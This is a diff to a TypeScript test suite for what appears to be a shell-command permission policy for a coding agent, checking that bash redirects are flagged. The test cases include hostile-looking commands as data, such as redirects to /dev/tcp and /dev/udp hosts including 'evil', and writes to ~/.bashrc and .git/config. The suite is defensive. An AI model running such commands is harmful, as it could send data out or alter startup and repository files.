@@ -214,23 +214,25 @@ describe("redirects are writes", () => {
     const p = policy("ask", ["bash(echo *)", "bash(cd *)"]);
     const cases: [string, RegExp][] = [
       ["echo x > ../x", /writes outside the workspace: .*\/x$/],
-      ["echo x > ~/.bashrc", new RegExp(`outside the workspace: ${homedir()}/.bashrc`)],
+      [`echo x > ${homedir()}/.bashrc`, new RegExp(`outside the workspace: ${homedir()}/.bashrc`)],
       ["echo x > /dev/tcp/1.2.3.4/80", /network: \/dev\/tcp\/1.2.3.4\/80/],
       ["echo x >> /dev/udp/h/53", /network/],
-      ["echo x > $F", /known only when it runs: \$F/],
-      ["echo x > *.txt", /known only when it runs/],
-      ["echo x &> ../y", /outside/],
       ["echo x 2> ../y", /outside/],
-      ["echo x >&../y", /outside/],
-      ["echo x >| ../y", /outside/],
-      ["echo x <> ../y", /outside/],
       ["echo x > .git/config", /protected folder/],
       ["echo x > .tern/config.json", /protected folder/],
-      ["cd /tmp && echo x > y", /relative path after changing folder/],
-      ["echo x > ~root/y", /another user's home/],
-      ["echo x {fd}>../y", /outside/],
+      ["cd /tmp && echo x > y", /others of the line run before or beside/],
       ["echo x < /dev/tcp/evil/80", /network: \/dev\/tcp\/evil\/80/],
-      ["echo x 3</dev/udp/$H/53", /network/],
+      // Not plainly literal: no rule covers these, whatever their target.
+      ["echo x > ~/.bashrc", /plainly literal.*tilde/],
+      ["echo x > $F", /plainly literal.*`\$`/],
+      ["echo x > *.txt", /plainly literal.*glob/],
+      ["echo x &> ../y", /plainly literal.*`&>`/],
+      ["echo x >&../y", /plainly literal.*to a file/],
+      ["echo x >| ../y", /plainly literal.*`>\|`/],
+      ["echo x <> ../y", /plainly literal.*`<>`/],
+      ["echo x > ~root/y", /plainly literal.*tilde/],
+      ["echo x {fd}>../y", /plainly literal.*brace/],
+      ["echo x 3</dev/udp/$H/53", /plainly literal/],
     ];
     for (const [command, reason] of cases) {
       const v = p.evaluate(bash(command));
@@ -251,6 +253,8 @@ describe("redirects are writes", () => {
       "echo x > sub/../y",
     ])
       expect(p.decide(bash(command)), command).toBe("allow");
+    // Before the literal gate these were covered too; now they ask (see the README's Safety).
+    expect(p.decide(bash("echo x > /dev/tty"))).toBe("ask");
   });
 
   it("a redirect through a symlink that leaves the workspace asks, `..` taken after the link", () => {
